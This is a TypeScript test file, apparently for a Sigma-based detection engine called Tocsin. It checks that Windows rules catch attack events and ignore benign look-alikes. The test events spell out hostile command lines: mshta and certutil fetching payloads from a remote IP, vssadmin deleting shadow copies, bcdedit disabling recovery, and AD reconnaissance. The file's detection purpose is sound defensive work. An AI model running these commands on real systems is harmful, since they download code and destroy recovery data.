import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createEngine } from "../src/detect/index.js";
import { eventFromJson } from "../src/formats/index.js";
import { loadSigmaText } from "../src/sigma/index.js";
import { REPO } from "./support/shared.js";

// Rules of Tocsin's starter set that the demo intrusion does not exercise, each checked on an
// event it must catch and on a look-alike it must leave alone.

function windowsEvent(channel: string, eventId: number, data: Record<string, unknown>) {
  return {
    Event: {
      System: {
        EventID: eventId,
        Channel: channel,
        Computer: "ws-test.corp.example",
        TimeCreated: { "#attributes": { SystemTime: "2026-11-21T10:00:00.000000Z" } },
      },
      EventData: data,
    },
  };
}

const sysmon = (id: number, data: Record<string, unknown>) =>
  windowsEvent("Microsoft-Windows-Sysmon/Operational", id, data);
const security = (id: number, data: Record<string, unknown>) => windowsEvent("Security", id, data);
const proc = (image: string, commandLine: string) => sysmon(1, { Image: image, CommandLine: commandLine });

const CASES: { file: string; hit: unknown; miss: unknown }[] = [
  {
    file: "process_creation/proc_creation_win_mshta_remote_script.yml",
    hit: proc("C:\\Windows\\System32\\mshta.exe", "mshta.exe https://203.0.113.9/a.hta"),
    miss: proc("C:\\Windows\\System32\\mshta.exe", "mshta.exe C:\\Apps\\setup.hta"),
  },
  {
    file: "process_creation/proc_creation_win_certutil_download.yml",
    hit: proc("C:\\Windows\\System32\\certutil.exe", "certutil.exe /urlcache /split /f http://203.0.113.9/t.exe t.exe"),
    miss: proc("C:\\Windows\\System32\\certutil.exe", "certutil.exe -hashfile setup.exe SHA256"),
  },
  {
    file: "process_creation/proc_creation_win_shadow_copy_deletion.yml",
    hit: proc("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
    miss: proc("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe list shadows"),
  },
  {
    file: "process_creation/proc_creation_win_bcdedit_recovery_disabled.yml",
    hit: proc("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
    miss: proc("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /enum"),
  },
  {
    file: "process_creation/proc_creation_win_ad_recon_tools.yml",
    hit: proc("C:\\Users\\Public\\AdFind.exe", "AdFind.exe -f objectcategory=computer"),
    miss: proc("C:\\Windows\\System32\\dsquery.exe", "dsquery user -name j*"),
  },
  {
    file: "builtin/security/win_security_privileged_group_member_added.yml",
    hit: security(4732, { TargetSid: "S-1-5-32-544", MemberName: "CN=eve" }),
    miss: security(4732, { TargetSid: "S-1-5-32-555", MemberName: "CN=eve" }),
  },
  {
    file: "builtin/security/win_security_scheduled_task_user_path.yml",
    hit: security(4698, { TaskName: "\\Updater", TaskContent: "<Command>C:\\Users\\Public\\upd.exe</Command>" }),
    miss: security(4698, { TaskName: "\\Defrag", TaskContent: "<Command>%windir%\\system32\\defrag.exe</Command>" }),
  },
  {
    file: "dns_query/dns_query_win_file_sharing_non_browser.yml",
    hit: sysmon(22, { QueryName: "x1.transfer.sh", Image: "C:\\Users\\Public\\odsync.exe" }),
    miss: sysmon(22, {
      QueryName: "pastebin.com",
      Image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    }),
  },
];

describe("starter rules outside the demo intrusion", () => {
  it.each(CASES)("$file catches its event and leaves the look-alike alone", ({ file, hit, miss }) => {
    const path = join(REPO, "rules", "windows", file);
    const loaded = loadSigmaText(readFileSync(path, "utf8"), path);
    expect(loaded.skipped).toEqual([]);
    const engine = createEngine({ documents: loaded.documents });
    const fired = (raw: unknown) => engine.match(eventFromJson(raw) ?? (null as never)).length;
    expect(fired(hit)).toBe(1);
    expect(fired(miss)).toBe(0);
  });
});
